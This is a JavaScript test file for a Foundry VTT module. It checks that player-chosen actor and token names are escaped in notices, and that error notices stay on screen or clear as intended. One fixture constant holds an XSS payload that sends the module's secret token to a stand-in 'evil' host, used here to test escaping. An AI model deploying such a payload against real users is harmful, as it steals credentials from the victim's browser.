// Notices carry names players choose (actor and token names) and the companion's words,
// which name them too. Foundry v12 renders a notice's text as HTML (v13 cleans it as
// untrusted input), so a player who names their token `<img src=x onerror=…>` would run
// script in the GM's browser, which holds the companion's token. Every notice goes
// through one helper (service.js `notify`) that escapes its text: the name reads as
// typed, and no markup reaches Foundry (docs/FOUNDRY.md, "Settings": the token stays
// in the GM's browser).
import { test } from "node:test";
import assert from "node:assert/strict";
import { readFileSync, readdirSync } from "node:fs";
import path from "node:path";
import * as E from "../mindscape/scripts/errors.js";
import { MODULE_DIR } from "../test-support/fakes.mjs";
import { defaultMethods, makeTable } from "../test-support/scenario.mjs";

const EVIL = `<img src=x onerror="fetch('//evil/?t='+game.settings.get('mindscape','daemonToken'))">`;

/** Every notice a client was given, as Foundry was given it (its HTML). */
const given = (client) => client.notes.html;

test("an owner's markup actor name reaches the GM's profile notice as text, never as markup", async () => {
  const t = makeTable({ dialogs: { gm: { profileDialog: { kind: "psionicist", psp: "30" } } } });
  t.actors.ulcen.name = EVIL;
  assert.ok(await t.clients.gm.svc.configureActor(t.actors.ulcen.uuid));
  assert.ok(given(t.clients.gm).length > 0);
  assert.ok(given(t.clients.gm).every((m) => !m.includes("<img")), given(t.clients.gm).join("\n"));
  assert.ok(t.clients.gm.notes.info.some((m) => m.includes(EVIL)), "the name reads as it was typed");
});

test("a refusal naming an actor (a player's own error notice) is escaped too", async () => {
  const t = makeTable();
  t.actors.ulcen.name = EVIL;
  assert.equal(await t.clients.p2.svc.configureActor(t.actors.ulcen.uuid), null);
  assert.ok(t.clients.p2.notes.error.some((m) => m.includes(EVIL)));
  assert.ok(given(t.clients.p2).every((m) => !m.includes("<img")));
});

test("a player's markup token name in an attack the GM's browser refuses reaches the GM's notice as text", async () => {
  const t = makeTable();
  t.tokens.ulcenToken.name = EVIL;
  await t.clients.p1.svc.startAttack({ attackerUuid: t.tokens.ulcenToken.uuid, targetUuids: [t.tokens.ulcenToken.uuid], attack: { mode: "mind-thrust", multiplier: 1, range: "short" } });
  assert.ok(t.clients.gm.notes.error.some((m) => m.includes(EVIL)));
  assert.ok([...given(t.clients.gm), ...given(t.clients.p1)].every((m) => !m.includes("<img")));
});

test("no script shows a notice but through the one escaping helper", () => {
  const dir = path.join(MODULE_DIR, "scripts");
  const direct = readdirSync(dir).flatMap((file) => readFileSync(path.join(dir, file), "utf8").split("\n")
    .map((line, i) => ({ where: `${file}:${i + 1}`, line }))
    .filter(({ line }) => /notifications\s*\?*\.?\s*(\?\.)?\s*(\[|info|warn|error|notify)/.test(line)));
  assert.deepEqual(direct.map((d) => d.where), ["service.js:" + (readFileSync(path.join(dir, "service.js"), "utf8").split("\n").findIndex((l) => l.includes("notifications?.[kind]")) + 1)]);
});

/** Whether each notice a client was given stays until dismissed (Foundry's `permanent`), by kind. */
const permanence = (client) => client.notes.given.map((n) => [n.kind, n.options?.permanent ?? false]);
const ATTACK = { mode: "mind-thrust", multiplier: 1, range: "short" };

test("an error only the GM can mend in the link to the companion (not paired, not running, token, origin, address) stays until dismissed; any other goes away by itself", () => {
  const url = "http://127.0.0.1:39393";
  const cases = [
    [new E.DaemonUnreachableError({ url }), true],
    [new E.DaemonAuthError({ url }), true],
    [new E.DaemonForbiddenError({ url }), true],
    [new E.BadDaemonUrlError({ url: "ftp://x" }), true],
    [new E.NotPairedError({ url }), true],
    [new E.DaemonHttpError({ url, status: 502 }), false],
    [new E.RulesError({ code: 4001, message: "The rules forbid it", rule: "not-enough-psp", detail: "too few" }), false],
    [new E.UsageError("MINDSCAPE.Error.NoTarget"), false],
    // Only the module's own errors: a failure of something else that happens to be named alike is not one.
    [Object.assign(new Error("refused"), { name: "DaemonAuthError" }), false],
  ];
  const { clients: { gm } } = makeTable();
  const error = console.error;
  console.error = () => {};
  try {
    for (const [e] of cases) gm.svc.notifyError(e);
  } finally {
    console.error = error;
  }
  assert.deepEqual(gm.notes.given.map((n) => [n.kind, n.options]), cases.map(([e, permanent]) => ["error", { permanent }]), cases.map(([e]) => e.name).join(", "));
  // A cancelled request shows nothing.
  gm.svc.notifyError(new E.CancelledError("MINDSCAPE.Error.Cancelled"));
  assert.equal(gm.notes.given.length, cases.length);
});

test("a player's attack that the companion's token refuses leaves the GM, who can mend it, an error that stays, the player one that goes away; a refusal by the rules and warnings go away by themselves", async () => {
  const t = makeTable({ token: "the-companion's" });
  // The GM's client holds a token the companion does not know (it was renewed): HTTP 401.
  t.clients.gm.game.settings.values.set("mindscape.daemonToken", "an-old-one");
  assert.equal(await t.clients.p1.svc.startAttack({ attackerUuid: t.tokens.ulcenToken.uuid, targetUuids: [t.tokens.fenkaToken.uuid], attack: ATTACK }), null);
  assert.match(t.clients.gm.notes.error[0], /mindscape token/);
  assert.deepEqual(permanence(t.clients.gm), [["error", true]]);
  // The player is told to ask the GM, who has the notice that stays.
  assert.match(t.clients.p1.notes.error[0], /ask the GM to check it/);
  assert.deepEqual(permanence(t.clients.p1), [["error", false]]);

  const refusing = makeTable({ methods: defaultMethods({ "exchange.resolve": () => { throw { code: 4001, message: "The rules forbid it", data: { rule: "not-enough-psp", detail: "Ulcen needs 8 PSPs but holds 5" } }; } }) });
  const gm = refusing.clients.gm;
  assert.equal(await gm.svc.startAttack({ attackerUuid: refusing.tokens.ulcenToken.uuid, targetUuids: [refusing.tokens.fenkaToken.uuid], attack: ATTACK }), null);
  assert.deepEqual(permanence(gm), [["error", false]]);
});

test("a GM's attack before the module is paired leaves an error that stays until dismissed: nothing reaches the companion until the GM pastes its token", async () => {
  const t = makeTable();
  t.clients.gm.game.settings.values.delete("mindscape.daemonToken");
  assert.equal(await t.clients.gm.svc.startAttack({ attackerUuid: t.tokens.ulcenToken.uuid, targetUuids: [t.tokens.fenkaToken.uuid], attack: ATTACK }), null);
  assert.match(t.clients.gm.notes.error[0], /^Mindscape is not paired with its companion yet\./);
  assert.deepEqual(permanence(t.clients.gm), [["error", true]]);
});

test("an attack on two minds whose attacker's sheet cannot be written: the first such warning stays until dismissed, the same words from the second exchange go away by themselves", async () => {
  const t = makeTable();
  t.actors.ulcen.update = async () => { throw new Error("the sheet is locked"); };
  const gm = t.clients.gm;
  const outcomes = await gm.svc.startAttack({ attackerUuid: t.tokens.ulcenToken.uuid, targetUuids: [t.tokens.fenkaToken.uuid, t.tokens.goblinToken.uuid], attack: ATTACK });
  assert.equal(outcomes.length, 2);
  const missed = gm.notes.given.filter((n) => n.text.startsWith("Some sheets could not be updated"));
  assert.deepEqual(missed.map((n) => n.text), Array(2).fill("Some sheets could not be updated: Actor.ulcen: the sheet is locked"));
  assert.deepEqual(missed.map((n) => n.options?.permanent ?? false), [true, false]);
});

test("on Foundry v12 (no `has`: notify answers the id, the notice waits in `queue`, then shows in `active`) a notice that stays comes back as one that stays once the GM dismissed the first; while it waits or shows, the same words go away by themselves", () => {
  const { clients: { gm } } = makeTable();
  const given = [];
  // Foundry v12's Notifications: a jQuery element per notice shown, its id in data-id.
  const notifications = { queue: [], active: [] };
  const element = (id) => ({ data: (key) => (key === "id" ? id : undefined) });
  const notice = (kind) => (text, options) => {
    const id = given.length + 1;
    given.push({ kind, text, options });
    notifications.queue.push({ id, message: text, permanent: Boolean(options?.permanent) });
    return id;
  };
  const show = () => { for (const n of notifications.queue.splice(0)) notifications.active.push(element(n.id)); };
  Object.assign(notifications, { info: notice("info"), warn: notice("warn"), error: notice("error") });
  gm.svc.env.ui = { notifications };
  const unpaired = new E.NotPairedError({ url: "http://127.0.0.1:39393" });
  gm.svc.notifyError(unpaired);
  gm.svc.notifyError(unpaired); // the first still waits in the queue
  show();
  gm.svc.notifyError(unpaired); // the first is shown
  notifications.active.splice(notifications.active.findIndex((li) => li.data("id") === 1), 1); // the GM dismissed it
  gm.svc.notifyError(unpaired);
  assert.deepEqual(given.map((n) => n.options.permanent), [true, false, false, true]);
});

test("on Foundry v12, a notice shown as an element that cannot say its id (no jQuery `data`) may be the first: the same words go away by themselves, as wherever the module cannot tell", () => {
  const { clients: { gm } } = makeTable();
  const given = [];
  const notifications = { queue: [], active: [] };
  const notice = (kind) => (text, options) => {
    given.push({ kind, text, options });
    notifications.active.push({ id: given.length });
    return given.length;
  };
  Object.assign(notifications, { info: notice("info"), warn: notice("warn"), error: notice("error") });
  gm.svc.env.ui = { notifications };
  const unpaired = new E.NotPairedError({ url: "http://127.0.0.1:39393" });
  gm.svc.notifyError(unpaired);
  gm.svc.notifyError(unpaired);
  assert.deepEqual(given.map((n) => n.options.permanent), [true, false]);
});

test("a notice that stays comes back as one that stays once Foundry (v13 `has`) no longer shows the first; while it shows it, the same words go away by themselves", () => {
  const { clients: { gm } } = makeTable();
  const given = [];
  const shown = new Set();
  const notice = (kind) => (text, options) => {
    const n = { id: given.length + 1 };
    given.push({ kind, text, options });
    shown.add(n.id);
    return n;
  };
  gm.svc.env.ui = { notifications: { info: notice("info"), warn: notice("warn"), error: notice("error"), has: (n) => shown.has(n.id) } };
  const unpaired = new E.NotPairedError({ url: "http://127.0.0.1:39393" });
  gm.svc.notifyError(unpaired);
  gm.svc.notifyError(unpaired);
  shown.delete(1); // the GM dismissed the first
  gm.svc.notifyError(unpaired);
  gm.svc.notifyError(new E.DaemonUnreachableError({ url: "http://127.0.0.1:39393" }));
  assert.deepEqual(given.map((n) => n.options.permanent), [true, false, true, true]);
});
